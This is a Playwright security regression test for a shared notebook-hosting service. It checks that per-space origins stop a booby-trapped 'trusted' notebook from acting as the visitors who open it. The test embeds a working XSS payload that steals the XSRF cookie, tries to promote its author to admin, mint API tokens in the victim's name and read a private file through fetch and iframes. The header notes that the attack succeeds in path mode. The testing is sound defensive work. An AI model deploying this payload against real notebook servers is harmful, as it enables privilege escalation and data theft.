/**
 * Issue 12, finding 3, in real Chromium: an editor of a shared space writes a
 * *trusted* notebook whose HTML output runs script. Whoever opens it runs
 * that script in their browser, on the space's page. With each space on its
 * own origin, the script has the visitor's credentials for that one space
 * only: it cannot call the domain's API as the visitor (make its author an
 * admin, mint a token) nor read the visitor's private space — however it
 * asks (relative URLs, the domain's origin, the private space's origin, an
 * iframe).
 *
 * An admin and the owner of a private space open the notebook through the
 * home (Open, then the file browser), as they would. Afterwards, checked with
 * an admin's API token: the editor is not an admin, the visitors have no new
 * API tokens, the audit log shows nothing done in the visitors' names; and
 * the script's own record shows it ran, as the visitor, and got nothing.
 *
 * In path mode (SPACES_ORIGIN_MODE=path, spaces on the domain's origin) this
 * test fails: the admin's visit makes the editor an admin, the owner's visit
 * reads her private file.
 */
import { APIRequestContext, Page } from '@playwright/test';
import * as fs from 'fs';

import {
  createSpace,
  expect,
  hideToasts,
  notebook,
  row,
  spaceApiWithToken,
  spaceURL,
  test,
  uniqueName
} from './fixtures';
import { IServerInfo } from './env';

test.describe.configure({ timeout: 300_000 });

/** What the booby-trapped notebook's script knows when it is written. */
interface ITrapTargets {
  /** The domain's origin, `http://localhost:PORT/`. */
  domain: string;
  /** The editor who wrote it (and wants to be an admin). */
  editor: string;
  /** A private space of the victim's, by name and by its own origin. */
  privateSpace: string;
  privateOrigin: string;
}

/**
 * The script of the trap: it tries, with the visitor's browser, everything
 * the issue lists, records each answer (status and the start of the body, or
 * the error) in `window.__xss` and in the output's `<pre id="xss-report">`.
 */
function trapScript(t: ITrapTargets): string {
  const run = async (t: ITrapTargets) => {
    const state: any = ((window as any).__xss = { done: false, results: {} });
    const results = state.results;
    const xsrf = /(?:^|;\s*)_xsrf=([^;]*)/.exec(document.cookie)?.[1] ?? '';
    const json = {
      'Content-Type': 'application/json',
      'X-XSRFToken': xsrf
    };
    const attempt = async (key: string, url: string, init: RequestInit) => {
      try {
        const response = await fetch(url, init);
        const body = await response.text();
        results[key] = {
          url,
          status: response.status,
          type: response.type,
          body: body.slice(0, 2000)
        };
      } catch (error) {
        results[key] = { url, error: String(error) };
      }
    };
    const frame = (key: string, url: string) =>
      new Promise<void>(resolve => {
        const iframe = document.createElement('iframe');
        iframe.style.display = 'none';
        const done = () => {
          try {
            const text =
              iframe.contentWindow?.document?.body?.innerText ?? null;
            results[key] = { url, read: text?.slice(0, 2000) ?? null };
          } catch (error) {
            results[key] = { url, error: String(error) };
          }
          resolve();
        };
        const timer = setTimeout(done, 8000);
        iframe.onload = () => {
          clearTimeout(timer);
          done();
        };
        iframe.src = url;
        document.body.appendChild(iframe);
      });

    // who is the visitor? (the space's own facts: allowed)
    await attempt('me', '/spaces/api/me', {});
    let me = '';
    try {
      me = JSON.parse(results.me.body).name ?? '';
    } catch {
      me = '';
    }
    const patch = {
      method: 'PATCH',
      headers: json,
      body: JSON.stringify({ admin: true })
    };
    const token = {
      method: 'POST',
      headers: json,
      body: JSON.stringify({ note: 'xss' })
    };
    // make the editor an admin
    await attempt('promoteRelative', `/spaces/api/users/${t.editor}`, patch);
    await attempt('promoteDomain', `${t.domain}spaces/api/users/${t.editor}`, {
      ...patch,
      credentials: 'include'
    });
    // mint a token in the visitor's name
    await attempt('tokenRelative', `/spaces/api/users/${me}/tokens`, token);
    await attempt('tokenDomain', `${t.domain}spaces/api/users/${me}/tokens`, {
      ...token,
      credentials: 'include'
    });
    // the same as a "simple" cross-site request (no preflight, opaque answer)
    await attempt('tokenDomainNoCors', `${t.domain}spaces/api/users/${me}/tokens`, {
      method: 'POST',
      mode: 'no-cors',
      credentials: 'include',
      headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify({ note: 'xss' })
    });
    // read the visitor's private space
    const secret = `spaces/${t.privateSpace}/api/contents/secret.txt`;
    await attempt('privateRelative', `/${secret}`, {});
    await attempt('privateDomain', `${t.domain}${secret}`, {
      credentials: 'include'
    });
    await attempt('privateOrigin', `${t.privateOrigin}${secret}`, {
      credentials: 'include'
    });
    await frame('frameRelative', `/${secret}`);
    await frame('frameDomain', `${t.domain}${secret}`);
    await frame('frameOrigin', `${t.privateOrigin}${secret}`);

    state.done = true;
    const report = document.getElementById('xss-report');
    if (report) {
      report.textContent = JSON.stringify(results, null, 1);
    }
  };
  return `(${run.toString()})(${JSON.stringify(t)});`;
}

/** The trap notebook: one code cell whose output is the HTML with the script. */
function trapNotebook(t: ITrapTargets): unknown {
  const html =
    '<b>Quarterly numbers</b><pre id="xss-report">…</pre>' +
    `<script>${trapScript(t)}</script>`;
  return notebook([
    {
      cell_type: 'code',
      id: 'trap',
      metadata: {},
      source: 'show_numbers()',
      execution_count: 1,
      outputs: [
        {
          output_type: 'display_data',
          data: { 'text/html': html, 'text/plain': '<numbers>' },
          metadata: {}
        }
      ]
    }
  ]);
}

/** Open the notebook as a visitor does: home, Open, the file browser. */
async function visit(
  page: Page,
  server: IServerInfo,
  space: string,
  path: string
): Promise<Record<string, any>> {
  await hideToasts(page);
  await row(page, space).getByRole('button', { name: 'Open' }).click();
  await page.waitForURL(/\/spaces\/[^/]+\/lab/, { timeout: 60_000 });
  await expect(page.locator('.jp-SpacesSwitcher-button')).toBeVisible({
    timeout: 60_000
  });
  const item = page.locator('.jp-DirListing-item', {
    has: page.locator('.jp-DirListing-itemText', { hasText: path })
  });
  await expect(item).toBeVisible({ timeout: 30_000 });
  await item.dblclick();
  await expect(
    page.locator('.jp-NotebookPanel .jp-OutputArea-output').first()
  ).toContainText('Quarterly numbers', { timeout: 60_000 });
  await page.waitForFunction(() => (window as any).__xss?.done === true, null, {
    timeout: 60_000
  });
  return page.evaluate(() => (window as any).__xss.results);
}

/** Whether an attempt of the script got through (a 2xx answer it could read, or content). */
function succeeded(result: any): boolean {
  if (result === undefined) {
    return false;
  }
  if ('read' in result) {
    // a page it could read with a file's model in it (a same-origin frame
    // may show the script a refusal: a 404 page or its JSON)
    const read: string | null = result.read;
    return !!read && /"type": "(file|directory|notebook)"/.test(read);
  }
  return typeof result.status === 'number' && result.status >= 200 && result.status < 300;
}

async function tokenIds(root: APIRequestContext, user: string): Promise<string[]> {
  const r = await root.get(`users/${user}/tokens`);
  expect(r.status(), await r.text()).toBe(200);
  return (await r.json()).items.map((t: any) => String(t.id));
}

async function lastAuditId(root: APIRequestContext): Promise<number> {
  const r = await root.get('audit?limit=1');
  expect(r.status(), await r.text()).toBe(200);
  return Number((await r.json()).items[0]?.id ?? 0);
}

async function auditSince(root: APIRequestContext, id: number): Promise<any[]> {
  const found: any[] = [];
  let cursor = '';
  for (;;) {
    const r = await root.get(`audit?limit=100${cursor ? `&cursor=${cursor}` : ''}`);
    expect(r.status(), await r.text()).toBe(200);
    const page = await r.json();
    const items = page.items.filter((e: any) => Number(e.id) > id);
    found.push(...items);
    if (items.length < page.items.length || !page.next_cursor) {
      return found;
    }
    cursor = encodeURIComponent(page.next_cursor);
  }
}

test('a trusted notebook by an editor of a shared space acts for no one who opens it: not an admin, not a private space’s owner', async ({
  server,
  api,
  home,
  startSpace
}) => {
  const root = await api('root');
  const alice = await api('alice');
  const bob = await api('bob');
  const linus = await api('linus');

  // alice's private space, with a secret in it
  const priv = await createSpace(alice, {
    name: uniqueName('xss-private'),
    sharing: 'private'
  });
  // bob's shared space, where linus is an editor
  const shared = await createSpace(bob, {
    name: uniqueName('xss-shared'),
    display_name: 'Team numbers',
    sharing: 'shared'
  });
  const m = await bob.put(`spaces/${shared.name}/members/linus`, {
    data: { role: 'editor' }
  });
  expect(m.status(), await m.text()).toBe(200);
  await Promise.all([
    startSpace(alice, priv.name),
    startSpace(bob, shared.name)
  ]);
  const secret = `the-secret-${uniqueName('s')}`;
  const put = await spaceApiWithToken(alice, server, priv.name, 'PUT', 'contents/secret.txt', {
    type: 'file',
    format: 'text',
    content: secret
  });
  expect(put.status(), await put.text()).toBeLessThan(300);

  // linus writes the trap and trusts it, through the space's API (his token)
  const targets: ITrapTargets = {
    domain: server.baseURL,
    editor: 'linus',
    privateSpace: priv.name,
    privateOrigin: spaceURL(server, priv.name)
  };
  const path = 'numbers.ipynb';
  const written = await spaceApiWithToken(linus, server, shared.name, 'PUT', `contents/${path}`, {
    type: 'notebook',
    format: 'json',
    content: trapNotebook(targets)
  });
  expect(written.status(), await written.text()).toBeLessThan(300);
  const trust = await spaceApiWithToken(linus, server, shared.name, 'POST', `contents/${path}/trust`);
  expect(trust.status(), await trust.text()).toBe(201);
  // the space's server says it is trusted (so JupyterLab runs its script)
  const read = await spaceApiWithToken(linus, server, shared.name, 'GET', `contents/${path}`);
  expect((await read.json()).content.cells[0].metadata.trusted).toBe(true);

  // the state of the domain before the visits
  expect((await (await root.get('users/linus')).json()).admin).toBe(false);
  const tokensBefore = {
    root: await tokenIds(root, 'root'),
    alice: await tokenIds(root, 'alice')
  };
  const since = await lastAuditId(root);

  // an admin, then the private space's owner, open the notebook
  const visits: Record<string, Record<string, any>> = {};
  for (const visitor of ['root', 'alice'] as const) {
    const page = await home(visitor);
    visits[visitor] = await visit(page, server, shared.name, path);
    await page.context().close();
  }

  // what the script got, for whoever looks (test-results/…/xss-results.json)
  const record = JSON.stringify(visits, null, 1);
  fs.writeFileSync(test.info().outputPath('xss-results.json'), record);
  await test.info().attach('what the script got', {
    body: record,
    contentType: 'application/json'
  });
  for (const [visitor, results] of Object.entries(visits)) {
    // the script ran, in the visitor's browser, as the visitor (in this space)
    expect(results.me?.status, JSON.stringify(results.me)).toBe(200);
    expect(JSON.parse(results.me.body).name).toBe(visitor);
    // and got nowhere: every attempt failed, no answer carries the secret
    const through = Object.entries(results)
      .filter(([key, result]) => key !== 'me' && succeeded(result))
      .map(([key, result]) => `${visitor} ${key}: ${JSON.stringify(result)}`);
    expect(through).toEqual([]);
    expect(JSON.stringify(results)).not.toContain(secret);
  }

  // nothing changed in the domain
  expect((await (await root.get('users/linus')).json()).admin).toBe(false);
  expect(await tokenIds(root, 'root')).toEqual(tokensBefore.root);
  expect(await tokenIds(root, 'alice')).toEqual(tokensBefore.alice);
  // the audit log: nothing done in the visitors' names (sign-ins and space
  // entries would be theirs; nothing else)
  const events = await auditSince(root, since);
  const inTheirNames = events.filter(
    e =>
      ['root', 'alice'].includes(e.actor) &&
      !['user.login', 'space.enter', 'space.open'].includes(e.action)
  );
  expect(inTheirNames).toEqual([]);
  expect(events.filter(e => e.target === 'linus' || e.target_type === 'token')).toEqual([]);
  // (the private file is intact and only its owner reads it)
  const still = await spaceApiWithToken(alice, server, priv.name, 'GET', 'contents/secret.txt');
  expect((await still.json()).content).toBe(secret);
});
